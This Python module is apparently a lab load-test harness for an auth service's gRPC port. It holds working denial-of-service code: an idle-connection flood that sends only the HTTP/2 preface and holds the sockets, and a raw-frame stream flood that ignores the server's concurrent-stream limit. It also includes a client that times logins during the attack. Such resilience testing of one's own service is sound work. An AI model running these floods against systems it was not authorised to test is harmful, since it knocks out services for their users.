"""Connection and stream floods against the auth service's client API port, as an attacker.

    python -m netlab.flood idle HOST PORT COUNT SECONDS
    python -m netlab.flood streams HOST PORT CONNECTIONS STREAMS SECONDS
    python -m netlab.flood client HOST PORT CA SERVER_NAME USER PASSWORD_FILE

`idle` opens COUNT TLS connections, sends the HTTP/2 preface and nothing more, and
holds them for SECONDS; it prints one JSON line when they are open, and one when it
lets go: how many the server had closed by then. `streams` opens STREAMS
Health.Watch streams spread over CONNECTIONS TLS connections with raw HTTP/2
frames (hpack + hyperframe), ignoring the server's stream limit as an attacker
would, keeps reading (so the server is never held back by its own send window),
and after SECONDS prints how each stream ended: refused (RST_STREAM), a gRPC
status, or still open. `client` is a real user meanwhile: it logs in and rekeys
over a fresh TLS channel and prints how long each took, or the error.
The attacker does not check the server's certificate; the client does.
"""

import json
import resource
import socket
import ssl
import sys
import threading
import time
from collections import Counter
from concurrent.futures import ThreadPoolExecutor

import grpc
import hpack
from hyperframe.frame import (
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    RstStreamFrame,
    SettingsFrame,
)

from pushgate_api import auth_pb2, auth_pb2_grpc

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
WATCH = "/grpc.health.v1.Health/Watch"
EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"  # gRPC framing of an empty HealthCheckRequest
BATCH = 200  # streams written per send


def _raise_fd_limit() -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def _tls(host: str, port: int) -> ssl.SSLSocket:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection((host, port), timeout=10)
    return context.wrap_socket(raw, server_hostname=host)


def _preface() -> bytes:
    return PREFACE + SettingsFrame(0).serialize()


def _closed_by_peer(conn: ssl.SSLSocket) -> bool:
    conn.setblocking(False)
    try:
        while True:
            data = conn.recv(65536)
            if not data:
                return True
    except (ssl.SSLWantReadError, BlockingIOError):
        return False
    except OSError:
        return True


def idle(host: str, port: int, count: int, seconds: float) -> None:
    _raise_fd_limit()
    held, failed, lock = [], Counter(), threading.Lock()

    def open_one(_: int) -> None:
        try:
            conn = _tls(host, port)
            conn.sendall(_preface())
        except OSError as error:
            with lock:
                failed[type(error).__name__] += 1
            return
        with lock:
            held.append(conn)

    started = time.monotonic()
    with ThreadPoolExecutor(32) as pool:
        list(pool.map(open_one, range(count)))
    opened = {"opened": len(held), "failed": dict(failed)}
    opened["seconds"] = round(time.monotonic() - started, 2)
    print(json.dumps(opened), flush=True)
    time.sleep(seconds)
    closed = sum(_closed_by_peer(conn) for conn in held)
    print(json.dumps({"held": len(held), "closed_by_server": closed}), flush=True)


class _StreamFlood:
    """One connection's worth of Watch streams and what became of them."""

    def __init__(self, host: str, port: int, streams: int) -> None:
        self.host, self.port, self.streams = host, port, streams
        self.outcomes: Counter[str] = Counter()
        self.open: set[int] = set()
        self.error = ""

    def _frames(self, decoder: hpack.Decoder, buffer: bytearray, conn) -> None:
        while len(buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
            if len(buffer) < 9 + length:
                return
            frame.parse_body(memoryview(bytes(buffer[9 : 9 + length])))
            del buffer[: 9 + length]
            if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                conn.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
            elif isinstance(frame, RstStreamFrame):
                self.open.discard(frame.stream_id)
                self.outcomes[f"rst_{frame.error_code}"] += 1
            elif isinstance(frame, GoAwayFrame):
                self.outcomes["goaway"] += 1
            elif isinstance(frame, HeadersFrame):
                headers = dict(decoder.decode(frame.data))
                status = headers.get("grpc-status")
                if status is not None and frame.stream_id in self.open:
                    self.open.discard(frame.stream_id)
                    self.outcomes[_status_name(int(status))] += 1

    def run(self, seconds: float) -> None:
        try:
            conn = _tls(self.host, self.port)
        except OSError as error:
            self.error = type(error).__name__
            return
        encoder, decoder, buffer = hpack.Encoder(), hpack.Decoder(), bytearray()
        decoder.max_header_list_size = 1 << 20
        headers = [
            (":method", "POST"),
            (":scheme", "https"),
            (":path", WATCH),
            (":authority", self.host),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
        conn.sendall(_preface())
        conn.settimeout(0.01)
        deadline = time.monotonic() + seconds
        stream_id = 1
        try:
            while time.monotonic() < deadline:
                if stream_id < 2 * self.streams:
                    batch = bytearray()
                    for _ in range(BATCH):
                        if stream_id >= 2 * self.streams:
                            break
                        block = encoder.encode(headers)
                        batch += HeadersFrame(stream_id, block, flags=["END_HEADERS"]).serialize()
                        batch += DataFrame(
                            stream_id, EMPTY_MESSAGE, flags=["END_STREAM"]
                        ).serialize()
                        self.open.add(stream_id)
                        stream_id += 2
                    conn.settimeout(10)
                    conn.sendall(batch)
                    conn.settimeout(0.01)
                try:
                    data = conn.recv(1 << 20)
                except (TimeoutError, ssl.SSLWantReadError):
                    continue
                if not data:
                    self.error = "closed"
                    break
                buffer += data
                self._frames(decoder, buffer, conn)
        except OSError as error:
            self.error = type(error).__name__
        finally:
            conn.close()
        self.outcomes["opened"] = (stream_id - 1) // 2
        self.outcomes["still_open"] = len(self.open)


def _status_name(code: int) -> str:
    for status in grpc.StatusCode:
        if status.value[0] == code:
            return status.name
    return str(code)


def streams(host: str, port: int, connections: int, total: int, seconds: float) -> None:
    floods = [_StreamFlood(host, port, total // connections) for _ in range(connections)]
    threads = [threading.Thread(target=f.run, args=(seconds,)) for f in floods]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    outcomes: Counter[str] = Counter()
    for flood in floods:
        outcomes.update(flood.outcomes)
        if flood.error:
            outcomes[f"connection_{flood.error}"] += 1
    print(json.dumps(dict(outcomes)), flush=True)


def client(host, port, ca_path, server_name, user, password_file) -> None:
    with open(ca_path, "rb") as handle:
        credentials = grpc.ssl_channel_credentials(root_certificates=handle.read())
    with open(password_file) as handle:
        password = handle.readline().rstrip("\n")
    options = [("grpc.ssl_target_name_override", server_name)]
    result = {}
    with grpc.secure_channel(f"{host}:{port}", credentials, options=options) as channel:
        stub = auth_pb2_grpc.AuthStub(channel)
        try:
            started = time.monotonic()
            login = stub.Login(auth_pb2.LoginRequest(username=user, password=password), timeout=20)
            result["login_seconds"] = round(time.monotonic() - started, 2)
            started = time.monotonic()
            rekey = stub.Rekey(auth_pb2.RekeyRequest(session_token=login.session_token), timeout=20)
            result["rekey_seconds"] = round(time.monotonic() - started, 2)
            result["key_epoch"] = rekey.keys.key_epoch
        except grpc.RpcError as error:
            result["error"] = f"{error.code().name}: {error.details()}"
    print(json.dumps(result), flush=True)


def main(argv: list[str]) -> int:
    mode, host, port, *rest = argv
    if mode == "idle":
        idle(host, int(port), int(rest[0]), float(rest[1]))
    elif mode == "streams":
        streams(host, int(port), int(rest[0]), int(rest[1]), float(rest[2]))
    else:
        client(host, int(port), *rest)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
